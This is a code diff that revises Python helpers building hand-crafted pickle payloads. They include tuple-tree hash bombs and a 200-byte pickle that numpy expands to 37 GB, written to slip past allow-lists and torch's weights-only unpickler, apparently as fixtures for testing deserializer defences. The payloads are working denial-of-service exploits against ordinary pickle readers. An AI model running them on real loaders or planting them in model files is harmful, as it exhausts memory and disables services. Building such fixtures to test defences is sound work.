@@ -12,20 +12,21 @@ import numpy as np
 
 def shared_tuple_bomb(levels: int = 64) -> bytes:
     """{T(levels): 1} with T(0) = () and T(i+1) = (T(i), T(i)) shared through the memo: no global, so every
-    allow-list passes it, and inserting the key hashes 2^levels tuples."""
-    out = b"\x80\x02}" + b")\x940"  # the dict; T0 = () memoised as entry 0 and popped
+    allow-list passes it, and inserting the key hashes 2^levels tuples. Only opcodes torch's weights-only
+    unpickler also reads (no POP, no MEMOIZE), so it reaches every reader."""
+    out = b"\x80\x02}" + b")q\x00"  # the dict; T0 = () stored as memo entry 0
     for i in range(levels):
-        out += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x940"  # T(i+1) = (T(i), T(i)) as entry i+1
-    return out + b"h" + bytes([levels]) + b"K\x01s."  # {T(levels): 1}
+        out += b"h" + bytes([i]) + b"\x86q" + bytes([i + 1])  # T(i+1) = (T(i) on the stack, T(i) fetched)
+    return out + b"K\x01s."  # {T(levels): 1}
 
 
 def shared_box(levels: int = 19) -> bytes:
-    """{1: [T(levels)]}, T(0) a box (0, 0, 0, 0) and T(i+1) = (T(i), T(i), T(i)): 1.4 KB that np.asarray
+    """{1: (T(levels),)}, T(0) a box (0, 0, 0, 0) and T(i+1) = (T(i), T(i), T(i)): 200 bytes that np.asarray
     turns into 3^19 x 4 floats (37 GB)."""
-    out = b"\x80\x02}" + b"(K\x00K\x00K\x00K\x00t\x940"
+    out = b"\x80\x02}K\x01" + b"(K\x00K\x00K\x00K\x00tq\x00"
     for i in range(levels):
-        out += (b"h" + bytes([i])) * 3 + b"\x87\x940"
-    return out + b"K\x01]h" + bytes([levels]) + b"as."
+        out += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x87q" + bytes([i + 1])
+    return out + b"\x85s."
 
 
 def memo_jump() -> bytes:
@@ -51,12 +52,12 @@ def deep_list(depth: int = 1000) -> bytes:
 
 
 def grow_after_share(levels: int = 15, items: int = 900) -> bytes:
-    """An empty list L shared 2^levels times through a tuple tree (counted small while L is empty), then
-    filled with `items` numbers: 2^levels x items elements (29 M) for anything that walks the tree."""
-    out = b"\x80\x02]\x940"  # L = [] as memo 0
+    """(T(levels), L): an empty list L shared 2^levels times through a tuple tree (counted small while L is
+    empty), then filled with `items` numbers: 2^levels x items elements (29 M) for anything walking it."""
+    out = b"\x80\x02]q\x00"  # L = [] as memo 0, T(0) = L
     for i in range(levels):
-        out += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x940"  # T(i+1) = (T(i), T(i)), T(0) = L
-    return out + b"h\x00(" + b"K\x01" * items + b"e0h" + bytes([levels]) + b"."  # fill L, return the tree
+        out += b"h" + bytes([i]) + b"\x86q" + bytes([i + 1])  # T(i+1) = (T(i), T(i))
+    return out + b"h\x00(" + b"K\x01" * items + b"e\x86."  # fetch L, APPENDS the items, pair it with the tree
 
 
 def torch_zip(pkl: bytes, prefix: str = "archive") -> bytes:
